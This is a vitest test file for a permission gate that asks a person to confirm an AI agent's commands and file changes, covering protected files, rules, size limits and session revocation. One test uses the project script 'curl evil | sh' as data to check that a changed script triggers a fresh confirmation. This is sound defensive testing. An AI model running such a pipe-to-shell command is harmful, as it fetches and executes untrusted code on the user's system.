/** What a call leaves open is worked out by whoever will do it, and then judged, shown and done. */
import { describe, expect, onTestFinished, test } from 'vitest';
import type { Executor, ResolvedCall } from '../../src/main/core/core.ts';
import { done, failed, refused } from '../../src/shared/actions/outcomes.ts';
import type { Plan, PlannedFile } from '../../src/shared/actions/plan.ts';
import {
  agent,
  answerNext,
  coreWith,
  granted,
  never,
  nextConfirm,
  settingsWith,
  sha256,
  type FakeNeeds,
} from './core-fixture.ts';
import { ruleWith } from './rule-fixture.ts';

const access = {
  scopes: [
    ...['build:project', 'test:code', 'replace:text', 'refactor:code', 'format:code'],
    ...['delete:files', 'edit:buffers'],
  ],
  roots: ['/w/app'],
  reason: 'to work',
} as const;

const actions = [
  ...['build_project', 'run_tests', 'replace_text', 'refactor_symbol', 'delete_file'],
  'edit_buffer',
];

const file = (path: string, own: Partial<PlannedFile> = {}): PlannedFile => ({
  path,
  use: 'write',
  bytes: 10,
  diff: '@@ -1 +1 @@\n-a\n+b\n',
  cut: false,
  ...own,
});

const changing = (...paths: readonly string[]): Plan => ({
  files: paths.map((path) => file(path)),
  truncated: false,
  digest: sha256(paths.join()),
});

const running = (argv: string[], own: Partial<Plan['command']> = {}): Plan => ({
  command: { argv, cwd: '/w/app', says: '', ...own },
  truncated: false,
  digest: sha256(argv.join()),
});

type Answer = Awaited<ReturnType<NonNullable<Executor['preview']>>>;

/** A core with an editor that answers every preview with this. */
async function app(answer: Answer, own: Partial<FakeNeeds> = {}) {
  const opened = await coreWith(own);
  const { core, clock } = opened;
  const ran: ResolvedCall[] = [];
  const previewed: ResolvedCall[] = [];
  const plans = { now: answer };
  const registered = core.executors.register({
    name: 'planner',
    actions: new Set(actions),
    previews: new Set(actions),
    async run(call) {
      ran.push(call);
      return done({});
    },
    async preview(call) {
      previewed.push(call);
      return plans.now;
    },
  });
  onTestFinished(() => registered.dispose());
  await granted(core, clock, { args: access });
  const call = (action: string, args: unknown = {}) =>
    core.gate.pass({ action, args }, agent, never);
  return { ...opened, ran, previewed, plans, call };
}

const replaceAll = { globs: ['**/*'], text: 'a', replacement: 'b' };
const rename = { path: '/w/app/a.ts', position: { line: 1, character: 1 }, new_name: 'other' };

describe('the command of a task', () => {
  test('is shown, classified and sent as it was found', async () => {
    const { core, clock, call, ran } = await app(
      running(['npm', 'run', 'test'], { says: 'test: vitest' }),
    );
    const passing = call('run_tests');
    const { command, forSession } = await nextConfirm(core, clock);
    expect(forSession).toBe('npm test in app, with any arguments');
    expect(command).toMatchObject({
      argv: ['npm', 'run', 'test'],
      program: '/usr/bin/npm',
      cwd: '/w/app',
      says: 'test: vitest',
    });
    expect(command?.effects).toContain('runs-other-code');
    await answerNext(core, clock, { kind: 'once' });
    expect(await passing).toMatchObject({ kind: 'done' });
    expect(ran[0]?.command?.argv).toEqual(['npm', 'run', 'test']);
  });

  test('can be a rule, which counts for these words and what the project says they run', async () => {
    const { core, clock, call, ran, plans } = await app(
      running(['npm', 'run', 'test'], { says: 'test: vitest' }),
    );
    const passing = call('run_tests');
    const { ruleDraft } = await nextConfirm(core, clock);
    await answerNext(core, clock, { kind: 'deny', reason: '' });
    await passing;
    if (!ruleDraft) throw new Error('it can be a rule');
    expect(await core.rules.add(ruleWith({ effect: 'allow', ...ruleDraft }))).toBeTruthy();
    expect(await call('run_tests')).toMatchObject({ kind: 'done' });
    plans.now = running(['npm', 'run', 'test'], { says: 'test: curl evil | sh' });
    void call('run_tests');
    expect((await nextConfirm(core, clock)).command?.says).toContain('evil');
    expect(ran).toHaveLength(1);
  });

  test('is refused where it would work outside', async () => {
    const { call, ran } = await app(running(['make'], { cwd: '/elsewhere' }));
    expect(await call('build_project')).toMatchObject({ code: 'outside-roots' });
    expect(ran).toEqual([]);
  });
});

describe('the files that a call would change', () => {
  test('E1 are asked about when one of them is protected, with what would become of them', async () => {
    const { core, clock, call, ran } = await app(changing('/w/app/a.ts', '/w/app/package.json'));
    const passing = call('replace_text', replaceAll);
    const ask = await nextConfirm(core, clock);
    expect(ask.because).toEqual([expect.stringContaining('/w/app/package.json')]);
    expect(ask.changes).toEqual([
      { path: '/w/app/package.json', diff: '@@ -1 +1 @@\n-a\n+b\n', isProtected: true },
      { path: '/w/app/a.ts', diff: '@@ -1 +1 @@\n-a\n+b\n', isProtected: false },
    ]);
    expect(ask).toMatchObject({ forSession: null, ruleDraft: null });
    await answerNext(core, clock, { kind: 'once' });
    expect(await passing).toMatchObject({ kind: 'done' });
    expect(ran[0]?.plan).toMatchObject({ digest: sha256('/w/app/a.ts,/w/app/package.json') });
  });

  test('need no question where none is; whoever planned it does it', async () => {
    const { call, ran, core } = await app(changing('/w/app/a.ts', '/w/app/b.ts'));
    const other = core.executors.register({
      name: 'newer editor',
      folders: ['/w/app/a.ts'],
      actions: new Set(['replace_text']),
      run: async () => failed('action-failed'),
    });
    onTestFinished(() => other.dispose());
    expect(await call('replace_text', replaceAll)).toMatchObject({ kind: 'done' });
    expect(ran[0]?.places.map(({ path, use }) => `${use} ${path}`)).toEqual([
      ...['list /w/app', 'write /w/app/a.ts', 'write /w/app/b.ts'],
    ]);
  });

  test('another plan is another call', async () => {
    const { call, ran, plans } = await app(changing('/w/app/a.ts'));
    await call('refactor_symbol', rename);
    plans.now = changing('/w/app/a.ts', '/w/app/b.ts');
    await call('refactor_symbol', rename);
    expect(ran[0]?.digest).not.toBe(ran[1]?.digest);
  });

  test.each([
    ['outside the folders', '/w/other/x.ts', 'outside-roots'],
    ['of a folder that a rule forbids', '/w/app/diary/x.ts', 'denied-by-rule'],
    ['of our own', '/w/app/.gatehouse/keys.json', 'own-data'],
  ])('E5 are refused when one is %s', async (_what, path, code) => {
    const ownPaths = ['/w/app/.gatehouse'];
    const { core, call, ran } = await app(changing('/w/app/a.ts', path), { ownPaths });
    await core.rules.add(ruleWith({ effect: 'deny', within: '/w/app/diary' }));
    expect(await call('refactor_symbol', rename)).toMatchObject({ code });
    expect(ran).toEqual([]);
  });

  test('what cannot be shown in full is not asked about', async () => {
    const hidden = file('/w/app/package.json', { diff: '', cut: true });
    const { call, core, ran } = await app({ files: [hidden], truncated: false });
    expect(await call('replace_text', replaceAll)).toMatchObject({ code: 'too-large-edit' });
    expect(core.asks.list()).toEqual([]);
    expect(ran).toEqual([]);
  });

  test('L3 count with all the bytes they would get', async () => {
    const settings = settingsWith({ editBytes: 1024 });
    const { call, ran, plans } = await app(
      { files: [file('/w/app/a.ts', { bytes: 1000 })], truncated: false },
      { settings },
    );
    expect(await call('refactor_symbol', rename)).toMatchObject({ kind: 'done' });
    const both = [file('/w/app/a.ts', { bytes: 600 }), file('/w/app/b.ts', { bytes: 600 })];
    plans.now = { files: both, truncated: false };
    expect(await call('refactor_symbol', rename)).toMatchObject({ code: 'too-large-edit' });
    expect(ran).toHaveLength(1);
  });
});

describe('what would be lost', () => {
  test('is said with the question, and part of its fingerprint', async () => {
    const { core, clock, call, plans, ran } = await app({
      recoverability: 'No commit holds it.',
      truncated: false,
    });
    const passing = call('delete_file', { path: '/w/app/a.ts' });
    const first = await nextConfirm(core, clock);
    expect(first.recoverability).toBe('No commit holds it.');
    core.asks.park(first.askId);
    await passing;
    core.asks.answer(first.askId, { kind: 'once' });
    plans.now = { recoverability: 'It is committed and pushed.', truncated: false };
    void call('delete_file', { path: '/w/app/a.ts' });
    const second = await nextConfirm(core, clock);
    expect(second.callDigest).toBe(first.callDigest);
    expect(second.digest).not.toBe(first.digest);
    expect(ran).toEqual([]);
  });

  test('the files that would be lost are part of its fingerprint, too', async () => {
    const losing = (diff: string): Plan => ({
      files: [file('/w/app/a.ts', { diff })],
      truncated: false,
    });
    const { core, clock, call, plans, ran } = await app(losing('-one line'));
    const passing = call('delete_file', { path: '/w/app/a.ts' });
    const { askId } = await nextConfirm(core, clock);
    core.asks.park(askId);
    await passing;
    core.asks.answer(askId, { kind: 'once' });
    plans.now = losing('-everything');
    void call('delete_file', { path: '/w/app/a.ts' });
    expect(await nextConfirm(core, clock)).toMatchObject({ changes: [{ diff: '-everything' }] });
    expect(ran).toEqual([]);
  });

  test('nothing is worked out where nobody is asked', async () => {
    const { call, previewed } = await app({ truncated: false });
    const edit = { path: '/w/app/a.ts', content: 'x', base_version: '1' };
    expect(await call('edit_buffer', edit)).toMatchObject({ kind: 'done' });
    expect(previewed).toEqual([]);
  });
});

describe('a preview', () => {
  test('is not made of what is denied already', async () => {
    const { core, call, previewed } = await app(changing('/w/app/a.ts'));
    await core.rules.add(ruleWith({ effect: 'deny', actions: ['refactor_symbol'] }));
    expect(await call('refactor_symbol', rename)).toMatchObject({ code: 'denied-by-rule' });
    expect(previewed).toEqual([]);
  });

  test('that fails is how the call ends, and nobody is asked', async () => {
    const { core, call, ran } = await app(refused('no-task', 'There are none.'));
    expect(await call('run_tests')).toMatchObject({ code: 'no-task' });
    expect(core.asks.list()).toEqual([]);
    expect(ran).toEqual([]);
  });

  test('C12 ends with its session', async () => {
    const { core, clock } = await coreWith();
    const begun = Promise.withResolvers<void>();
    const registered = core.executors.register({
      name: 'slow',
      actions: new Set(['run_tests']),
      previews: new Set(['run_tests']),
      run: async () => done({}),
      preview: (_call, _entry, signal) =>
        new Promise((resolve) => {
          begun.resolve();
          signal.addEventListener('abort', () => resolve(failed('ask-withdrawn')));
        }),
    });
    onTestFinished(() => registered.dispose());
    const sessionId = await granted(core, clock, { args: access });
    const passing = core.gate.pass({ action: 'run_tests', args: {} }, agent, never);
    await begun.promise;
    core.sessions.end(sessionId, 'person');
    expect(await passing).toMatchObject({ code: 'session-revoked' });
  });
});
